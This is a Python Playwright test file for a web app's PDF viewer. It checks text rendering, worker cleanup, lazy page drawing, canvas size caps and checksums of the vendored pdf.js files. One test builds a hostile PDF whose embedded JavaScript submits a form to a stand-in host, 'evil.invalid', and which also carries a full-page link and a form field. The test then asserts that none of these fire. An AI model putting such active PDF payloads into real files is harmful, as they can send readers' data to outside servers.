"""Files that want more from the page than to be shown, or more of it than there is."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING

import pytest
from desk import SAMPLE
from drawn_pdf import Leaf, drawn, lines
from sheets import TITLE, dropped, essay, mark, rows

from neural_lab.web.shell import STATIC

if TYPE_CHECKING:
    from playwright.sync_api import Page


def test_titles_and_names_stay_text(page: Page) -> None:
    dropped(page, essay(), f"{TITLE}.pdf")
    assert page.locator("h1").inner_text() == TITLE
    assert page.locator("main img").count() == 0


def test_scripts_links_and_forms_of_a_file_stay_off(page: Page) -> None:
    script = (
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.invalid/'\\)) >>"
    )
    link = (
        "<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.invalid/) >> >>"
    )
    field = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (value) /Rect [72 60 300 80] >>"
    hostile = Leaf(lines(72, 700, rows(SAMPLE)), more="/Annots [9 0 R 10 0 R]")
    data = drawn(
        [hostile], catalog=f"{script} /AcroForm << /Fields [10 0 R] >>", extra=[link.encode(), field.encode()]
    )
    asked: list[str] = []
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    page.on("request", lambda request: asked.append(request.url))
    dropped(page, data)
    assert page.locator(".pane :is(a, input, iframe)").count() == 0
    mark(page, 0).locator("polygon").first.click()
    page.locator("lab-result .sentence").wait_for()
    assert not [each for each in asked if "evil" in each]
    assert len(page.context.pages) == 1


def test_the_file_is_read_in_a_worker_that_ends_with_the_view(page: Page) -> None:
    dropped(page, essay())
    assert [each.url.rpartition("/")[2] for each in page.workers] == ["pdf.worker.min.mjs"]
    page.evaluate("location.hash = '#/check'")
    page.wait_for_selector("lab-editor")
    page.wait_for_function("() => document.querySelectorAll('canvas').length === 0")
    assert page.workers == []


def test_only_pages_that_are_near_are_drawn(page: Page) -> None:
    dropped(page, essay(60))
    assert page.locator("canvas").count() < 8
    page.locator(".page-tools input").fill("50")
    page.keyboard.press("Enter")
    page.wait_for_selector("[data-page='50'] canvas")
    page.wait_for_function("document.querySelectorAll('canvas').length < 8")
    assert page.locator("[data-page='1'] canvas").count() == 0


def test_huge_pages_are_drawn_small_enough(page: Page) -> None:
    huge = Leaf(lines(72, 14_000, rows(SAMPLE)), size=(14_400, 14_400))
    dropped(page, drawn([huge, Leaf(lines(2, 700, rows(SAMPLE)), size=(3, 14_400))]))
    sizes = page.locator("canvas").evaluate_all("all => all.map((each) => [each.width, each.height])")
    assert sizes
    assert all(width * height <= 2**24 and max(width, height) <= 2**13 for width, height in sizes)


def test_the_library_that_draws_is_the_one_it_says() -> None:
    folder = STATIC / "vendor" / "pdfjs"
    sums = [each.split("  ") for each in (folder / "SHA256SUMS").read_text().splitlines()]
    for digest, name in sums:
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
    others = {"README.md", "SHA256SUMS"}
    assert {path.name for path in folder.iterdir()} == {name for _, name in sums} | others
